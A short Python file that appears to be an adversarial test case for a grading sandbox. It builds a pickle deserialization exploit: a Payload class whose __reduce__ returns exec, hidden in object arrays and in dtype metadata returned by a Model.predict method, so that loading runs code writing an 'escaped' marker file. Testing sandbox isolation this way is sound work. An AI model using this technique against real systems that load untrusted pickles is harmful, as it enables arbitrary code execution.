# attack: arrays of objects, whose .npy form is a pickle, and a dtype that carries a pickle in its metadata.
# target: model-test per-sort-test
# %% per-sort
class Payload:
    def __reduce__(self):
        return exec, ("open('@COURSE@/escaped', 'w').write('x')",)

    def __float__(self):
        return 1.0


per_sort = np.array([[Payload(), Payload()]] * 4, dtype=object)


# %% model
class Model:
    def predict(self, X):
        return np.zeros(len(X), dtype=np.dtype("f8", metadata={"payload": Payload()})) + np.array([Payload()] * len(X), dtype=object).astype(float)


model = Model()
